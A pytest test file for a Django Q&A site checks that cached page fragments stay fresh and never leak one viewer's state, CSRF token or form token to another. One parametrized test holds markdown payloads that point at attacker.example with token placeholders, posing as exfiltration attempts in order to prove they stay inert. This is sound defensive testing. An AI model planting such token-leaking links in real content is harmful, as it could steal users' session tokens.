"""Cached page parts: every write shows at once, and no viewer gets another's state."""

import re

import pytest
from django.test import Client
from django.urls import reverse

from rung.accounts.models import User
from rung.qa import services
from rung.qa.models import Answer, Question
from rung.testing import make_answer, make_card, make_member, make_question

pytestmark = pytest.mark.django_db


def _html(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return response.content.decode()


def test_new_answer_and_edit_show_at_once_to_a_visitor_with_a_warm_cache(
    question: Question, alice: User, bob: User, client: Client
) -> None:
    url = question.get_absolute_url()
    assert "Own the migration" not in _html(client, url)
    answer = make_answer(question, bob, body="Own the migration end to end.")
    assert "Own the migration end to end." in _html(client, url)
    services.answer_edit(answer=answer, editor=bob, body="Own the rollout, too.")
    assert "Own the rollout, too." in _html(client, url)
    services.question_edit(
        question=question,
        editor=alice,
        title=question.title,
        body="An updated body",
        topics=list(question.topics.all()),
        card=make_card(ratings={"impact": "M-"}),
        is_anonymous=False,
    )
    page = _html(client, url)
    assert "An updated body" in page and "Impact <strong>M-</strong>" in page
    services.answer_delete(answer=answer, actor=bob)
    assert "Own the rollout" not in _html(client, url)


def test_new_question_shows_at_once_on_topic_and_home(
    question: Question, alice: User, client: Client
) -> None:
    topic_url = reverse("qa:topic", args=["mid-level"])
    _html(client, topic_url)
    _html(client, reverse("home"))
    fresh = make_question(alice, title="A brand new question about calibration?")
    assert fresh.title in _html(client, topic_url)
    assert fresh.title in _html(client, reverse("home"))
    services.question_delete(question=fresh, actor=alice)
    assert fresh.title not in _html(client, topic_url)
    assert fresh.title not in _html(client, reverse("home"))


def test_like_state_is_per_member_while_counts_are_shared(
    question: Question, bob: User, charlie: User
) -> None:
    answer = make_answer(question, bob)
    url = question.get_absolute_url()
    dana = Client()
    dana.force_login(User.objects.create_user("dana", "dana@example.com", "x" * 12))
    charlie_client = Client()
    charlie_client.force_login(charlie)
    _html(dana, url)  # warms the shared member copy
    charlie_client.post(reverse("qa:answer_like", args=[answer.pk]))
    mine = _html(charlie_client, url)
    theirs = _html(dana, url)
    assert re.search(rf"answer_like.*?|{answer.pk}", mine)
    assert 'aria-pressed="true"' in mine
    assert 'aria-pressed="true"' not in theirs
    assert '<span class="like-count">1</span>' in theirs


def test_author_controls_only_for_the_author(question: Question, bob: User, charlie: User) -> None:
    answer = make_answer(question, bob)
    edit_url = reverse("qa:answer_edit", args=[answer.pk])
    bob_client, charlie_client = Client(), Client()
    bob_client.force_login(bob)
    charlie_client.force_login(charlie)
    url = question.get_absolute_url()
    assert edit_url not in _html(charlie_client, url)
    assert edit_url in _html(bob_client, url)
    assert edit_url not in _html(charlie_client, url)
    assert edit_url not in _html(Client(), url)
    helpful_url = reverse("qa:answer_helpful", args=[answer.pk])
    alice_client = Client()
    alice_client.force_login(question.author)
    assert helpful_url in _html(alice_client, url)
    assert helpful_url not in _html(charlie_client, url)


def test_forms_on_cached_pages_carry_the_viewers_own_csrf_token(
    question: Question, bob: User, charlie: User
) -> None:
    answer = make_answer(question, bob)
    url = question.get_absolute_url()
    for member in (bob, charlie):
        browser = Client(enforce_csrf_checks=True)
        browser.force_login(member)
        page = _html(browser, url)
        tokens = set(re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', page))
        assert tokens and "__rung_csrf_token__" not in page
        reply = browser.post(
            reverse("qa:reply_create", args=[answer.pk]),
            {"body": f"Reply from {member.username}", "csrfmiddlewaretoken": tokens.pop()},
        )
        assert reply.status_code == 302, member.username
    assert Answer.objects.filter(parent=answer).count() == 2


def test_each_form_on_a_cached_page_gets_a_fresh_double_submit_token(
    question: Question, bob: User, charlie: User
) -> None:
    make_answer(question, bob)
    make_answer(question, bob, body="A second answer")
    browser = Client()
    browser.force_login(charlie)
    tokens = []
    for _ in range(2):
        page = _html(browser, question.get_absolute_url())
        assert "__rung_form_token__" not in page
        tokens += re.findall(r'name="submit_token" value="([0-9a-f]{32})"', page)
    # Two reply forms and the answer form on each load, all different.
    assert len(tokens) == 6 and len(set(tokens)) == 6


@pytest.mark.parametrize(
    "typed",
    [
        "![p](https://attacker.example/a.png?csrf=__rung_csrf_token__&f=__rung_form_token__)",
        "[link](https://attacker.example/?t=__rung_csrf_token__) and `__rung_form_token__`",
        "rung-slot-0123456789abcdef0123456789abcdef-csrf rung-slot-x-form",
    ],
)
def test_reader_tokens_never_fill_text_an_author_typed(
    question: Question, bob: User, charlie: User, typed: str
) -> None:
    """Only slots the templates own receive a reader's tokens; look-alikes in a post stay text."""
    answer = make_answer(question, bob, body=typed)
    reader = Client()
    reader.force_login(charlie)
    url = question.get_absolute_url()
    for _attempt in range(2):  # a cold render, then the cached pieces
        page = _html(reader, url)
        # The forms carry the reader's own (masked) tokens, and the post none of them.
        tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        assert tokens and all(re.fullmatch(r"[A-Za-z0-9]{64}", token) for token in tokens)
        start = page.index(f'id="post-body-answer-{answer.pk}"')
        body = page[start : page.index('<div class="post-actions">', start)]
        assert not any(token in body for token in tokens)
        for look_alike in ("__rung_csrf_token__", "__rung_form_token__", "rung-slot-"):
            if look_alike in typed:
                assert look_alike in body


def test_each_form_in_a_cached_fragment_gets_its_own_submit_token(
    question: Question, bob: User, charlie: User
) -> None:
    """Reply forms in a shared cached thread get fresh, distinct double-submit tokens."""
    make_answer(question, bob, body="First answer")
    make_answer(question, charlie, body="Second answer")
    reader = Client()
    reader.force_login(make_member("dana"))
    first = _html(reader, question.get_absolute_url())
    second = _html(reader, question.get_absolute_url())
    tokens_first = re.findall(r'name="submit_token" value="([0-9a-f]{32})"', first)
    tokens_second = re.findall(r'name="submit_token" value="([0-9a-f]{32})"', second)
    assert len(tokens_first) >= 3
    assert len(set(tokens_first + tokens_second)) == len(tokens_first) + len(tokens_second)


def test_a_moderator_sees_moderator_controls_on_every_answer(
    question: Question, bob: User, charlie: User
) -> None:
    """Staff get a copy of their own: the shared member copy has no moderator controls."""
    answer = make_answer(question, bob)
    member = Client()
    member.force_login(charlie)
    _html(member, question.get_absolute_url())  # warms the shared member copy
    moderator = Client()
    moderator.force_login(make_member("moderator", is_staff=True))
    page = _html(moderator, question.get_absolute_url())
    assert reverse("qa:answer_language", args=[answer.pk]) in page
    assert reverse("qa:answer_language", args=[answer.pk]) not in _html(
        member, question.get_absolute_url()
    )
